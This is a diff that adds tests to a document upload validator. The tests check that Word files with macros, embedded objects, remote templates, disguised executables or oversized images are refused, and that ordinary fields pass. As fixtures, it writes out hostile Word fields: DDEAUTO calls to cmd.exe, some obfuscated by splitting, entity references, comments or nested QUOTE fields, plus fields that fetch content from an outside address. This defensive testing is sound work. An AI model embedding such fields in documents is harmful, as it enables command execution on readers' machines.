@@ -32,6 +32,21 @@ function docx(parts: Record<string, string>, types = ''): File {
 }
 const relation = (type: string, target: string) =>
   `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
+const inside = (type: string, target: string) => relation(type, target).replace('External', 'Internal');
+const docxWith = (body: string) => docx({ 'word/document.xml': `<w:document>${body}</w:document>` });
+/** A field as Word writes it, its instruction in these pieces. */
+const instruction = (...pieces: string[]) =>
+  [
+    '<w:fldChar w:fldCharType="begin"/>',
+    ...pieces.map((piece) => (piece.startsWith('<') ? piece : `<w:instrText>${piece}</w:instrText>`)),
+    '<w:fldChar w:fldCharType="separate"/><w:t>as shown</w:t><w:fldChar w:fldCharType="end"/>',
+  ].join('');
+function pngOf(width: number, height: number): Buffer {
+  const header = Buffer.from('89504e470d0a1a0a0000000d494844520000000000000000', 'hex');
+  header.writeUInt32BE(width, 16);
+  header.writeUInt32BE(height, 20);
+  return header;
+}
 const macros = zipOf({ '[Content_Types].xml': '', 'word/document.xml': '', 'word/vbaProject.bin': 'x' });
 const manyParts = Object.fromEntries(
   [...Array(1_999).keys()]
@@ -88,6 +103,24 @@ describe('refused, and nothing of it is kept', () => {
       docx({}, '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>'),
     ],
     ['an embedded object', docx({ 'word/embeddings/oleObject1.BIN': 'x' })],
+    ['an object whose type is spelled with a reference', docxOf(inside('ole&#79;bject', 'x.png'))],
+    ['macros whose type is spelled with a reference', docxOf(inside('vba&#80;roject', 'x.png'))],
+    ['another document in it', docx({ 'word/more.docm': 'x' })],
+    ['a part of an unknown kind', docx({ 'word/v.dat': 'x' })],
+    ['a program named as a picture', docx({ 'word/media/a.png': 'MZ\u0090' })],
+    ['a page that Word takes in', docxOf(inside('aFChunk', 'a.xml'))],
+    ['a field that starts a program', docxWith(instruction('DDEAUTO c:\\\\cmd.exe'))],
+    ['such a field in pieces', docxWith(instruction(' D', 'DE', 'AUTO c:\\\\cmd.exe'))],
+    ['such a field with a reference', docxWith(instruction('&#68;DEAUTO c:\\\\cmd.exe'))],
+    ['such a field with a comment', docxWith(instruction('DD<!-- -->E c:\\\\cmd.exe'))],
+    ['such a field whose name is made by another', docxWith(instruction(instruction('QUOTE 68 68 69')))],
+    ['such a field as one tag', docxWith('<w:fldSimple w:instr=" dde&#x61;uto c:\\cmd.exe"/>')],
+    ['such a field in a footer', docx({ 'word/footer1.xml': instruction('DDE excel a') })],
+    ['such a field in a part named as a picture', docx({ 'word/media/a.png': instruction('DDE excel a') })],
+    ['a picture that a field fetches', docxWith(instruction('INCLUDEPICTURE "http://203.0.113.7/a.png"'))],
+    ['a text of another computer', docxWith(instruction('INCLUDETEXT "\\\\\\\\203.0.113.7\\\\a"'))],
+    ['a part with a name of 60,000 characters', docx({ [`word/${'embeddings/'.repeat(5_000)}a.xml`]: '' })],
+    ['a PNG of 60,000 by 60,000 pixels', new File([pngOf(60_000, 60_000)], 'scan.png')],
     ['a template elsewhere', docxOf(relation('attachedTemplate', 'http://203.0.113.7/a.dotm'))],
     [
       'a template elsewhere, hidden behind a value',
@@ -106,6 +139,20 @@ describe('refused, and nothing of it is kept', () => {
     expect([answer.status, answer.error().code]).toEqual([415, 'unsupported_file']);
     expect(await detail(Id)).toMatchObject({ ReferralInfo: [{ DocumentCount: 0 }], ReferralDocuments: [] });
   });
+});
+
+test.each([
+  ['a page number and a date', instruction('PAGE') + instruction(' DATE \\@ "M/d/yyyy"')],
+  ['a sum of fields', instruction('=', instruction('PAGE'), '+ 1')],
+  ['a table of contents', instruction('TOC \\o "1-3"') + instruction('HYPERLINK \\l "_Toc1"')],
+  ['a picture of the mail it came in', instruction('INCLUDEPICTURE "cid:image001.png" \\* MERGEFORMATINET')],
+  ['words like those of fields', '<w:t>DDEAUTO http://example.org MZ</w:t>'],
+])('a Word document with %s is accepted', async (_what, body) => {
+  expect((await upload(docxWith(body))).status).toBe(200);
+});
+
+test('a scan of a large page is accepted', async () => {
+  expect((await upload(new File([pngOf(9_000, 12_000)], 'scan.png'))).status).toBe(200);
 });
 
 test('a Word document with a link that a reader clicks is accepted', async () => {
